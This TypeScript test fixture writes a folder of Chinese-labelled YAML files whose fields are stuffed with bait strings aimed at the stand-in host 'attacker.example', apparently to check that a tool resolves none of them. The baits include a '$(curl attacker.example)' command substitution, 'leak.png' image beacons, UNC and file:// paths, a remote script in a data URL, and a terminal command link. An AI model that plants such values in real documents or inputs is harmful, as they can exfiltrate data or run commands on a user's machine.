// A folder whose documents name hosts, shares, programs and pictures wherever a text may stand.
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const HOST = 'attacker.example';

/** Texts that a careless reader would follow. */
export const BAITS: readonly string[] = [
  `//${HOST}/share/x.yaml`,
  `\\\\${HOST}\\share\\x.yaml`,
  `https://${HOST}/x.yaml`,
  `file://${HOST}/share/x.yaml`,
  `![](https://${HOST}/leak.png)`,
  `<img src="https://${HOST}/leak.png">`,
  `[点](command:workbench.action.terminal.new)`,
  `$(curl ${HOST})`,
  `data:text/html,<script src="https://${HOST}/x.js"></script>`,
];

/** The documents of the folder, by their names; `plan` names the others in every place that there is. */
export function hostileFiles(): Readonly<Record<string, string>> {
  const units = BAITS.map(
    (bait) =>
      `  - 名称: ${quoted(`局${bait}`)}\n    简称: ${quoted(bait)}\n    曾用名: ${quoted(`旧${bait}`)}\n`,
  );
  const rows = BAITS.map(
    (bait) =>
      `  - 工作任务: ${quoted(bait)}\n    责任单位: ${quoted(`局${bait}`)}\n    完成时间: ${quoted(bait)}\n    依据: ${quoted(bait)}\n`,
  );
  const plans = BAITS.map((bait) => `  - ${quoted(bait)}\n`).join('');
  const plan = `类型: 任务分工\n标题: ${quoted(BAITS.join(' '))}\n上级方案:\n${plans}条目:\n${rows.join('')}`;
  const single = BAITS.map(
    (bait, at) =>
      [
        `${at}.分工.yaml`,
        `类型: 任务分工\n标题: 表\n上级方案: ${quoted(bait)}\n条目:\n${rows.join('')}`,
      ] as const,
  );
  return {
    '单位.名录.yaml': `类型: 单位名录\n标题: ${quoted(BAITS.join(' '))}\n条目:\n${units.join('')}`,
    '计划.分工.yaml': plan,
    ...Object.fromEntries(single),
  };
}

/** Writes the documents into a new folder, in a folder that is a home; returns both. */
export function hostileFolder(): { readonly home: string; readonly folder: string } {
  const home = mkdtempSync(join(tmpdir(), 'gongkai-alone-'));
  const folder = join(home, 'work');
  mkdirSync(folder);
  for (const [name, text] of Object.entries(hostileFiles())) writeFileSync(join(folder, name), text);
  return { home, folder };
}

function quoted(text: string): string {
  return `'${text.replaceAll("'", "''")}'`;
}
